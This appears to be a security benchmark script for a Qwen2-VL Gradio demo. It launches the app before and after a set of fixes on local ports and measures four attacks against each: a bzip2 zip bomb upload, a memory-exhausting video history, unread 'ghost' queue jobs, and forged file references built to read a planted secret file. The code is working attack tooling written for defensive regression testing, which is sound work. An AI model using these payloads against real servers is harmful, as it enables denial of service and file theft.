"""Issue 8's attacks, before and after the fixes: what each one costs the server, in one run.

Starts web_demo_mm.py twice, one after the other, on the tiny random checkpoint with --cpu-only
and default settings: "before" from a temporary `git worktree` of 06ce843 (the commit before the
fixes), "after" from this working tree. Each side runs in a folder of its own (its working
directory, GRADIO_TEMP_DIR and TMPDIR, so that the app's scratch files land there too), and is
attacked the way a stranger with network access would, through the page's events called by
fn_index (from GET /config) and the documented /chat API:

1. Zip bomb: a ~1 KB conversation .zip (transcript.json + media/a.png, a bzip2 member of
   --bomb-mib MiB of zeros) uploaded and sent to the Import button's upload event. Disk growth
   is every byte added under GRADIO_TEMP_DIR and TMPDIR (the upload included); time runs from
   the queue join to the event's result. Only that event is called: the page's follow-up events
   (showing the chat) would copy the files again.
2. Memory: one /chat request (gradio_client, max_new_tokens=1) whose history names --videos
   small distinct H.264 clips (64x64, 40 frames; the client uploads them), each a user turn
   with an assistant answer between. Server RSS is sampled every 50 ms: the peak above the
   level just before the call ("during") and what is still held 2 s after it ("kept").
   On "after", --max-media (32) and the token budget leave the oldest turns out undecoded.
3. Ghost jobs: --ghosts queue joins for /chat (max_new_tokens=--ghost-tokens, each its own
   session, sent from 127.0.0.2) whose result stream is never opened; then one normal /chat
   (max_new_tokens=4, gradio_client from 127.0.0.1) is timed from submit to result, against
   the same request with no ghosts. A second request from the ghosts' own address (127.0.0.2,
   stream read) shows the per-client bound. The ghosts' generations are counted from the
   server's `app.requests` log lines: a line with more than 4 generated tokens is a ghost's
   (the probes ask for 4; the tiny model ends its answer to "hi" by itself after 78 tokens,
   so a ghost generates that many, not --ghost-tokens).
4. File read: a file `secret.txt` in the app's working directory (outside every folder a
   client may name), referred to from a history's user part as Gradio's component shape
   {"type": "component", "component": "file", "value": {"path": ...}} and as a FileData
   without "meta", sent to /chat and to the Export button's event. "yes" if the secret's
   contents came back anywhere: in the answer, in an error message, or in a file the server
   returned (an exported zip is opened). A last row puts an image from the working directory
   in a /chat history (component shape): "yes" if the app gave it to the model (the request's
   log line counts one image).

Each measurement has a time limit and shows "timeout" past it (a request that timed out may
still be running while the next measurement goes on). Prints a table "attack | before | after"
and the details (answers, errors) below it. About 2-3 minutes on 2 CPU cores.

    .venv/bin/python bench/security.py [--bomb-mib 1000] [--videos 60] [--ghosts 20]
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import uuid
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

os.environ.setdefault("HF_HUB_OFFLINE", "1")

import httpx
import psutil
from gradio_client import Client, handle_file
from PIL import Image

from app.tiny_checkpoint import build_tiny_checkpoint
from bench.overhead import free_port
from tests.media_corpus import write_video

ROOT = Path(__file__).resolve().parent.parent

BEFORE_COMMIT = "06ce843"
GHOST_ADDRESS = "127.0.0.2"  # all of 127.0.0.0/8 reaches the loopback server
PROBE_TOKENS = 4
TIMEOUT = "timeout"
MiB = 2**20
_LOG_LINE = re.compile(r"app\.requests: (\{.*\})\s*$")


# --- one side: an app in a subprocess, and a raw client for any of its events ----------------


@dataclass
class Side:
    """One app under attack and the folders it writes to."""

    name: str
    source: Path  # the tree web_demo_mm.py is run from
    home: Path  # everything this side writes lies under it
    process: subprocess.Popen | None = None
    port: int = 0
    results: dict[str, str] = field(default_factory=dict)  # row -> cell
    notes: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def workdir(self) -> Path:
        return self.home / "work"

    @property
    def temp_dirs(self) -> tuple[Path, Path]:
        return self.home / "gradio", self.home / "tmp"

    @property
    def log(self) -> Path:
        return self.home / "app.log"

    def note(self, text: str) -> None:
        self.notes.append(text)


def start(side: Side, checkpoint: Path, timeout: float) -> None:
    """web_demo_mm.py of `side.source` in a subprocess, returned once /chat answers."""
    gradio_dir, tmp_dir = side.temp_dirs
    for folder in (side.workdir, gradio_dir, tmp_dir):
        folder.mkdir(parents=True, exist_ok=True)
    env = os.environ | {
        "GRADIO_TEMP_DIR": str(gradio_dir),
        "TMPDIR": str(tmp_dir),
        "HF_HUB_OFFLINE": "1",
        "GRADIO_ANALYTICS_ENABLED": "False",
        "PYTHONUNBUFFERED": "1",
    }
    side.port = free_port()
    command = [
        sys.executable,
        str(side.source / "web_demo_mm.py"),
        "-c",
        str(checkpoint),
        "--cpu-only",
        "--server-port",
        str(side.port),
    ]
    with side.log.open("w") as log:
        side.process = subprocess.Popen(
            command, stdout=log, stderr=subprocess.STDOUT, cwd=side.workdir, env=env
        )
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if side.process.poll() is not None:
            raise SystemExit(f"{side.name}: the app exited; see {side.log}")
        try:
            client = Client(side.url + "/", verbose=False)
            client.predict({"text": "warm up", "files": []}, max_new_tokens=2, api_name="/chat")
            return
        except Exception:  # not up yet, or the model is still loading
            time.sleep(1)
    raise SystemExit(f"{side.name}: the app did not come up in {timeout:.0f} s; see {side.log}")


def stop(side: Side) -> None:
    if side.process is None or side.process.poll() is not None:
        return
    side.process.terminate()
    try:
        side.process.wait(20)
    except subprocess.TimeoutExpired:
        side.process.kill()
        side.process.wait(10)


class Raw:
    """Any event by fn_index over Gradio's HTTP routes, as a page (or an attacker) calls it."""

    def __init__(self, url: str, local_address: str | None = None) -> None:
        transport = httpx.HTTPTransport(local_address=local_address) if local_address else None
        self.url = url
        self.http = httpx.Client(base_url=url, transport=transport, timeout=60)
        self.config = self.http.get("/config").json()
        self.info = self.http.get("/gradio_api/info").json()

    def close(self) -> None:
        self.http.close()

    # what the page is made of

    def component_id(self, kind: str, elem_id: str) -> int:
        for component in self.config["components"]:
            props = component.get("props", {})
            if component.get("type") == kind and props.get("elem_id") == elem_id:
                return component["id"]
        raise LookupError(f"no {kind} #{elem_id} on the page")

    def dependency(self, target: int, event: str) -> dict[str, Any]:
        for dependency in self.config["dependencies"]:
            if [target, event] in dependency.get("targets", []):
                return dependency
        raise LookupError(f"no {event} event on component {target}")

    def api_dependency(self, api_name: str) -> dict[str, Any]:
        for dependency in self.config["dependencies"]:
            if dependency.get("api_name") == api_name:
                return dependency
        raise LookupError(f"no event named {api_name}")

    def chat_data(self, message: dict, history: list, **values: Any) -> list[Any]:
        """The inputs of /chat: message, history, then every setting at its default."""
        data = []
        for parameter in self.info["named_endpoints"]["/chat"]["parameters"]:
            name = parameter.get("parameter_name")
            if name == "message":
                data.append(message)
            elif name == "history":
                data.append(history)
            elif name in values:
                data.append(values[name])
            else:
                data.append(parameter.get("parameter_default"))
        return data

    # calls

    def upload(self, path: Path) -> dict[str, Any]:
        """The FileData of `path` uploaded the way the page uploads a file."""
        with path.open("rb") as f:
            response = self.http.post("/gradio_api/upload", files=[("files", (path.name, f))])
        response.raise_for_status()
        return {
            "path": response.json()[0],
            "orig_name": path.name,
            "size": path.stat().st_size,
            "mime_type": "application/zip" if path.suffix == ".zip" else None,
            "meta": {"_type": "gradio.FileData"},
        }

    def join(self, dependency: dict[str, Any], data: list[Any], session: str) -> int:
        """Queues an event; returns the HTTP status of the join."""
        body = {
            "data": data,
            "fn_index": dependency["id"],
            "session_hash": session,
            "event_data": None,
            "trigger_id": None,
        }
        return self.http.post("/gradio_api/queue/join", json=body).status_code

    def call(self, dependency: dict[str, Any], data: list[Any], timeout: float) -> dict[str, Any]:
        """Runs an event to its end: {"ok": bool, "data": outputs, "error": message}."""
        session = uuid.uuid4().hex[:11]
        if dependency.get("queue") is False:
            body = {"data": data, "fn_index": dependency["id"], "session_hash": session}
            response = self.http.post("/gradio_api/run/predict", json=body, timeout=timeout)
            answer = response.json()
            if response.status_code == 200:
                return {"ok": True, "data": answer.get("data")}
            return {"ok": False, "error": str(answer.get("error") or answer)}
        status = self.join(dependency, data, session)
        if status != 200:
            return {"ok": False, "error": f"queue join answered HTTP {status}"}
        return self.results(session, timeout)

    def results(self, session: str, timeout: float) -> dict[str, Any]:
        """Reads a session's event stream until its event completes (or `timeout`)."""
        deadline = time.monotonic() + timeout
        params = {"session_hash": session}
        with self.http.stream("GET", "/gradio_api/queue/data", params=params, timeout=timeout) as r:
            for line in r.iter_lines():
                if time.monotonic() > deadline:
                    break
                if not line.startswith("data:"):
                    continue
                message = json.loads(line[5:])
                kind = message.get("msg")
                if kind == "process_completed":
                    output = message.get("output") or {}
                    if message.get("success"):
                        return {"ok": True, "data": output.get("data")}
                    error = output.get("error") or output.get("title") or "Error (no message)"
                    return {"ok": False, "error": str(error)}
                if kind in ("unexpected_error", "close_stream") and "message" in message:
                    return {"ok": False, "error": str(message.get("message"))}
        return {"ok": False, "error": TIMEOUT}


def with_limit(seconds: float, work: Callable[[], Any]) -> Any:
    """work() in a thread; TIMEOUT if it has not returned within `seconds` (it runs on)."""
    box: list[Any] = []

    def target() -> None:
        try:
            box.append(work())
        except Exception as exc:  # reported in the table's notes, never hides the other rows
            box.append(exc)

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    if not box:
        return TIMEOUT
    if isinstance(box[0], Exception):
        raise box[0]
    return box[0]


def rss(process: subprocess.Popen) -> int:
    """Resident memory of the app's process and its children, in bytes."""
    try:
        root = psutil.Process(process.pid)
        return sum(p.memory_info().rss for p in [root, *root.children(recursive=True)])
    except psutil.Error:
        return 0


def tree_bytes(*folders: Path) -> int:
    total = 0
    for folder in folders:
        for parent, _, files in os.walk(folder):
            for name in files:
                try:
                    total += os.lstat(os.path.join(parent, name)).st_size
                except OSError:
                    pass
    return total


def log_entries(side: Side, offset: int) -> list[dict[str, Any]]:
    """The app's `app.requests` lines written after byte `offset` of its log."""
    with side.log.open("rb") as log:
        log.seek(offset)
        text = log.read().decode("utf-8", "replace")
    entries = []
    for line in text.splitlines():
        if match := _LOG_LINE.search(line):
            try:
                entries.append(json.loads(match.group(1)))
            except ValueError:
                pass
    return entries


def size(n: int) -> str:
    return f"{n / MiB:.1f} MiB" if abs(n) >= MiB else f"{n / 1024:.1f} KiB"


def short(text: Any, limit: int = 110) -> str:
    text = " ".join(str(text).split())
    return text if len(text) <= limit else text[: limit - 1] + "…"


# --- 1. zip bomb ------------------------------------------------------------------------------


def write_bomb(path: Path, mib: int) -> Path:
    """A conversation zip whose media/a.png is `mib` MiB of zeros, bzip2-compressed."""
    document = {
        "format": "qwen2-vl-web-demo/transcript",
        "version": 1,
        "messages": [
            {
                "role": "user",
                "content": [
                    {"type": "file", "file": {"path": "media/a.png"}},
                    {"type": "text", "text": "What is this?"},
                ],
            },
            {"role": "assistant", "content": [{"type": "text", "text": "A picture."}]},
        ],
    }
    member = zipfile.ZipInfo("media/a.png", date_time=(2024, 1, 1, 0, 0, 0))
    member.compress_type = zipfile.ZIP_BZIP2
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("transcript.json", json.dumps(document))
        with archive.open(member, "w", force_zip64=mib >= 2048) as sink:
            chunk = bytes(MiB)
            for _ in range(mib):
                sink.write(chunk)
    return path


def zip_bomb(side: Side, bomb: Path, limit: float) -> None:
    raw = Raw(side.url)
    try:
        dependency = raw.dependency(raw.component_id("uploadbutton", "import"), "upload")
        disk_before = tree_bytes(*side.temp_dirs)
        start = time.perf_counter()

        def attack() -> dict[str, Any]:
            return raw.call(dependency, [raw.upload(bomb)], limit)

        result = with_limit(limit, attack)
        elapsed = time.perf_counter() - start
        grown = tree_bytes(*side.temp_dirs) - disk_before
    finally:
        raw.close()
    if result == TIMEOUT or result.get("error") == TIMEOUT:
        side.results["bomb_disk"] = f"{TIMEOUT} (+{size(grown)} so far)"
        side.results["bomb_time"] = TIMEOUT
        return
    side.results["bomb_disk"] = "+" + size(grown)
    side.results["bomb_time"] = f"{elapsed:.2f} s" if elapsed < 1 else f"{elapsed:.1f} s"
    outcome = "imported" if result["ok"] else "refused: " + short(result["error"])
    side.note(f"zip bomb ({bomb.stat().st_size} B zip): {outcome}")


# --- 2. memory --------------------------------------------------------------------------------


def make_videos(folder: Path, count: int) -> list[Path]:
    """`count` small clips with different bytes (x264 writes its settings into the stream, so
    a different rate-factor and keyframe interval make each file, and its upload, distinct)."""
    folder.mkdir(parents=True, exist_ok=True)
    paths, digests = [], set()
    for i in range(count):
        path = write_video(
            folder / f"clip-{i:02d}.mp4",
            size=(64, 64),
            frames=40,
            gop=2 + i,
            codec_options={"crf": str(12 + i % 30)},
        )
        digest = hashlib.sha256(path.read_bytes()).hexdigest()
        if digest in digests:
            raise SystemExit(f"{path.name} came out like another clip; the uploads would merge")
        digests.add(digest)
        paths.append(path)
    return paths


def memory(side: Side, videos: list[Path], limit: float) -> None:
    assert side.process is not None
    history: list[dict[str, Any]] = []
    for i, path in enumerate(videos):
        history += [
            {
                "role": "user",
                "content": [
                    {"type": "file", "file": handle_file(path)},
                    {"type": "text", "text": f"What happens in clip {i}?"},
                ],
            },
            {"role": "assistant", "content": [{"type": "text", "text": f"Clip {i}: gray."}]},
        ]
    client = Client(side.url + "/", verbose=False)
    offset = side.log.stat().st_size
    start_rss = rss(side.process)
    peak = [start_rss]
    done = threading.Event()

    def sample() -> None:
        while not done.is_set():
            peak[0] = max(peak[0], rss(side.process))
            time.sleep(0.05)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()

    def request() -> str:
        try:
            client.predict(
                {"text": "Compare the first and the last clip.", "files": []},
                history,
                max_new_tokens=1,
                api_name="/chat",
            )
            return "answered"
        except Exception as exc:
            return "error: " + short(exc)

    began = time.perf_counter()
    outcome = with_limit(limit, request)
    elapsed = time.perf_counter() - began
    time.sleep(2.0)
    done.set()
    sampler.join()
    kept = rss(side.process) - start_rss
    side.results["mem_start"] = f"{start_rss / MiB:.0f} MiB"
    side.results["mem_during"] = f"+{(peak[0] - start_rss) / MiB:.0f} MiB"
    side.results["mem_kept"] = f"{kept / MiB:+.0f} MiB"
    side.results["mem_time"] = TIMEOUT if outcome == TIMEOUT else f"{elapsed:.1f} s"
    logged = log_entries(side, offset)
    seen = (
        f"; log: videos={logged[-1].get('videos')}, turns_left_out="
        f"{logged[-1].get('turns_left_out')}, prompt_tokens={logged[-1].get('prompt_tokens')}"
        if logged
        else ""
    )
    side.note(f"memory ({len(videos)} videos in the history): {outcome}{seen}")


# --- 3. ghost jobs ----------------------------------------------------------------------------


def timed_chat(client: Client) -> float:
    start = time.perf_counter()
    client.predict({"text": "hi", "files": []}, max_new_tokens=PROBE_TOKENS, api_name="/chat")
    return time.perf_counter() - start


def ghost_jobs(side: Side, ghosts: int, ghost_tokens: int, limit: float) -> None:
    client = Client(side.url + "/", verbose=False)
    alone = with_limit(limit, lambda: timed_chat(client))
    side.results["ghost_alone"] = TIMEOUT if alone == TIMEOUT else f"{alone:.2f} s"
    offset = side.log.stat().st_size
    raw = Raw(side.url, local_address=GHOST_ADDRESS)
    try:
        dependency = raw.api_dependency("chat")
        data = raw.chat_data({"text": "hi", "files": []}, [], max_new_tokens=ghost_tokens)
        statuses = Counter(raw.join(dependency, data, uuid.uuid4().hex[:11]) for _ in range(ghosts))
        if set(statuses) != {200}:
            side.note(f"ghost joins answered HTTP {dict(statuses)}")
        # Right after the joins: a user at another address, and one more at the ghosts' own.
        same: list[Any] = []

        def same_address() -> None:
            probe = raw.chat_data({"text": "hi", "files": []}, [], max_new_tokens=PROBE_TOKENS)
            start = time.perf_counter()
            result = raw.call(dependency, probe, limit)
            same.append((time.perf_counter() - start, result))

        neighbour = threading.Thread(target=same_address, daemon=True)
        neighbour.start()
        behind = with_limit(limit, lambda: timed_chat(client))
        neighbour.join(limit)
        side.results["ghost_behind"] = TIMEOUT if behind == TIMEOUT else f"{behind:.2f} s"
        if not same:
            side.results["ghost_same"] = TIMEOUT
        else:
            seconds, result = same[0]
            side.results["ghost_same"] = (
                f"{seconds:.2f} s" if result["ok"] else f"refused after {seconds:.2f} s"
            )
            if not result["ok"]:
                side.note("ghosts' address: " + short(result["error"]))
        # Wait for every ghost's log line (a generated ghost may take a while on "before").
        deadline = time.monotonic() + limit
        while time.monotonic() < deadline and len(log_entries(side, offset)) < ghosts + 2:
            time.sleep(0.5)
    finally:
        raw.close()
    entries = log_entries(side, offset)
    generated = [e for e in entries if e.get("generated_tokens", 0) > PROBE_TOKENS]
    tokens = sum(e.get("generated_tokens", 0) for e in generated)
    missing = max(0, ghosts + 2 - len(entries))
    side.results["ghost_generated"] = f"{len(generated)} of {ghosts} ({tokens} tokens)" + (
        f", {missing} not logged yet" if missing else ""
    )
    outcomes = Counter(e.get("outcome") for e in entries)
    side.note(f"ghost phase log outcomes (ghosts + 2 probes): {dict(outcomes)}")


# --- 4. file read -----------------------------------------------------------------------------


def secret_files(side: Side) -> tuple[Path, Path, str]:
    """secret.txt and secret.png in the app's working directory, and the text to look for."""
    marker = "bench-secret-" + uuid.uuid4().hex
    text = side.workdir / "secret.txt"
    text.write_text(f"API_KEY={marker}\n")
    image = side.workdir / "secret.png"
    Image.new("RGB", (64, 64), (200, 30, 30)).save(image)
    return text, image, marker


def component_part(path: Path, component: str = "file") -> dict[str, Any]:
    return {
        "type": "component",
        "component": component,
        "value": {"path": str(path)},
        "constructor_args": {},
        "props": {},
    }


def bare_file_part(path: Path) -> dict[str, Any]:
    return {"type": "file", "file": {"path": str(path)}}  # no "meta": Gradio's check skips it


def forged_history(part: dict[str, Any]) -> list[dict[str, Any]]:
    return [
        {"role": "user", "content": [part, {"type": "text", "text": "What is in this file?"}]},
        {"role": "assistant", "content": [{"type": "text", "text": "A file."}]},
    ]


def holds_secret(value: Any, marker: str, http: httpx.Client, base: str) -> bool:
    """The marker anywhere in an event's output, including the files it names (zips opened)."""
    if isinstance(value, str):
        return marker in value
    if isinstance(value, list):
        return any(holds_secret(v, marker, http, base) for v in value)
    if not isinstance(value, dict):
        return False
    if any(holds_secret(v, marker, http, base) for v in value.values()):
        return True
    location = value.get("url") or value.get("path")
    if not isinstance(location, str):
        return False
    url = location if location.startswith("http") else f"{base}/gradio_api/file={location}"
    try:
        body = http.get(url).content
    except httpx.HTTPError:
        return False
    if marker.encode() in body:
        return True
    try:
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            return any(marker.encode() in archive.read(name) for name in archive.namelist())
    except (zipfile.BadZipFile, OSError, RuntimeError):
        return False


def file_read(side: Side, limit: float) -> None:
    secret, image, marker = secret_files(side)
    raw = Raw(side.url)
    client = Client(side.url + "/", verbose=False)
    try:
        export = raw.dependency(raw.component_id("button", "export"), "click")
        shapes = {
            "component": component_part(secret),
            "FileData without meta": bare_file_part(secret),
        }
        for shape, part in shapes.items():
            history = forged_history(part)

            def via_chat(history: list = history) -> tuple[bool, str]:
                try:
                    answer = client.predict(
                        {"text": "Read the file.", "files": []},
                        history,
                        max_new_tokens=PROBE_TOKENS,
                        api_name="/chat",
                    )
                    return marker in str(answer), "answered " + short(repr(answer), 40)
                except Exception as exc:
                    return marker in str(exc), "error: " + short(exc)

            def via_export(history: list = history) -> tuple[bool, str]:
                result = raw.call(export, [history], limit)
                if result["ok"]:
                    found = holds_secret(result["data"], marker, raw.http, side.url)
                    return found, "returned " + short(json.dumps(result["data"]), 60)
                return marker in result["error"], "error: " + short(result["error"])

            for route, attack in (("/chat", via_chat), ("export", via_export)):
                outcome = with_limit(limit, attack)
                key = f"read {route} {shape}"
                if outcome == TIMEOUT:
                    side.results[key] = TIMEOUT
                    continue
                found, detail = outcome
                side.results[key] = "yes" if found else "no"
                side.note(f"{route}, {shape}: {detail}")
        # A server image as a component part of a /chat history: does it reach the model?
        offset = side.log.stat().st_size

        def server_image() -> str:
            try:
                client.predict(
                    {"text": "Describe the picture.", "files": []},
                    forged_history(component_part(image, "image")),
                    max_new_tokens=PROBE_TOKENS,
                    api_name="/chat",
                )
                return "answered"
            except Exception as exc:
                return "error: " + short(exc)

        outcome = with_limit(limit, server_image)
        entries = log_entries(side, offset)
        seen = bool(entries) and (entries[-1].get("images") or 0) > 0
        side.results["image to model"] = (
            TIMEOUT if outcome == TIMEOUT else ("yes" if seen else "no")
        )
        side.note(f"/chat, server image (component 'image'): {outcome}")
    finally:
        raw.close()


# --- the run ----------------------------------------------------------------------------------


ROWS = (
    ("bomb_disk", "zip bomb import: disk added"),
    ("bomb_time", "zip bomb import: time to answer"),
    ("mem_start", "{videos}-video history: server RSS at start"),
    ("mem_during", "{videos}-video history: peak growth during /chat"),
    ("mem_kept", "{videos}-video history: growth kept 2 s after"),
    ("mem_time", "{videos}-video history: /chat time"),
    ("ghost_alone", "normal /chat, no ghosts"),
    ("ghost_behind", "normal /chat behind {ghosts} ghosts (other address)"),
    ("ghost_same", "normal /chat at the ghosts' address"),
    ("ghost_generated", "ghost jobs generated"),
    ("read /chat component", "secret read: /chat, component part"),
    ("read export component", "secret read: export, component part"),
    ("read /chat FileData without meta", "secret read: /chat, FileData without meta"),
    ("read export FileData without meta", "secret read: export, FileData without meta"),
    ("image to model", "server image given to the model (/chat)"),
)


def attack(side: Side, args: argparse.Namespace, bomb: Path, videos: list[Path]) -> None:
    """Every measurement on one running side; a failure is noted and the next one runs."""
    steps: list[tuple[str, Callable[[], None]]] = [
        ("file read", lambda: file_read(side, 60)),
        ("zip bomb", lambda: zip_bomb(side, bomb, 180)),
        ("ghost jobs", lambda: ghost_jobs(side, args.ghosts, args.ghost_tokens, 120)),
        ("memory", lambda: memory(side, videos, 240)),
    ]
    for name, step in steps:
        began = time.perf_counter()
        try:
            step()
        except Exception as exc:
            side.note(f"{name} failed: {type(exc).__name__}: {short(exc)}")
        print(f"  {side.name}: {name} done in {time.perf_counter() - began:.0f} s", flush=True)


def print_table(sides: list[Side], args: argparse.Namespace) -> None:
    rows = [(label.format(videos=args.videos, ghosts=args.ghosts), key) for key, label in ROWS]
    width = max(len(label) for label, _ in rows)
    cells = [[side.results.get(key, "-") for side in sides] for _, key in rows]
    widths = [max(len(side.name), *(len(c[i]) for c in cells)) for i, side in enumerate(sides)]
    header = " | ".join(
        ["attack".ljust(width)] + [s.name.ljust(w) for s, w in zip(sides, widths, strict=True)]
    )
    print()
    print(header)
    print("-" * len(header))
    for (label, _), row in zip(rows, cells, strict=True):
        print(
            " | ".join(
                [label.ljust(width)] + [c.ljust(w) for c, w in zip(row, widths, strict=True)]
            )
        )
    print()
    print(
        f"Measured in one run; before = {BEFORE_COMMIT} (git worktree), after = this working "
        f"tree; tiny random checkpoint, --cpu-only, default flags, 2-core CPU. Disk = bytes added "
        f"under GRADIO_TEMP_DIR + TMPDIR by one import of a {args.bomb_mib} MiB bzip2 bomb; RSS "
        f"= the app process; ghosts = {args.ghosts} queue joins of /chat "
        f"(max_new_tokens={args.ghost_tokens}) never read; secret read 'yes' = the file's "
        "contents came back to the client; '-' = not measured (see the notes)."
    )
    for side in sides:
        print(f"\n{side.name}:")
        for line in side.notes:
            print("  " + line)


@contextlib.contextmanager
def worktree(commit: str, path: Path) -> Iterator[Path]:
    """A detached `git worktree` of `commit` at `path`, removed when done."""
    git = ["git", "-C", str(ROOT)]
    subprocess.run([*git, "worktree", "add", "--detach", str(path), commit], check=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.STDOUT)  # fmt: skip
    try:
        yield path
    finally:
        subprocess.run([*git, "worktree", "remove", "--force", str(path)], check=False)
        subprocess.run([*git, "worktree", "prune"], check=False)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--bomb-mib", type=int, default=1000, help="size of the zip bomb's member")
    parser.add_argument("--videos", type=int, default=60, help="videos in the /chat history")
    parser.add_argument("--ghosts", type=int, default=20, help="queue joins never read")
    parser.add_argument("--ghost-tokens", type=int, default=200, help="max_new_tokens of a ghost")
    parser.add_argument("--keep", action="store_true", help="keep the temporary folder (logs)")
    args = parser.parse_args()
    checkpoint = build_tiny_checkpoint(ROOT / "build" / "bench" / "tiny-qwen2-vl")
    home = Path(tempfile.mkdtemp(prefix="bench-security-"))
    sides: list[Side] = []
    try:
        began = time.perf_counter()
        bomb = write_bomb(home / "conversation.zip", args.bomb_mib)
        videos = make_videos(home / "videos", args.videos)
        print(
            f"{bomb.stat().st_size} B zip ({args.bomb_mib} MiB inside) and {len(videos)} clips "
            f"made in {time.perf_counter() - began:.0f} s",
            flush=True,
        )
        with worktree(BEFORE_COMMIT, home / "src-before") as old:
            sides = [Side("before", old, home / "before"), Side("after", ROOT, home / "after")]
            for side in sides:
                began = time.perf_counter()
                try:
                    start(side, checkpoint, 300)
                    print(f"  {side.name}: up in {time.perf_counter() - began:.0f} s", flush=True)
                    attack(side, args, bomb, videos)
                finally:
                    stop(side)
                    # The bomb's output is not needed any more: free the disk now.
                    shutil.rmtree(side.home / "tmp", ignore_errors=True)
                    shutil.rmtree(side.home / "gradio", ignore_errors=True)
    finally:
        for side in sides:
            stop(side)
        if args.keep:
            print(f"logs kept in {home}")
        else:
            shutil.rmtree(home, ignore_errors=True)
    print_table(sides, args)


if __name__ == "__main__":
    main()
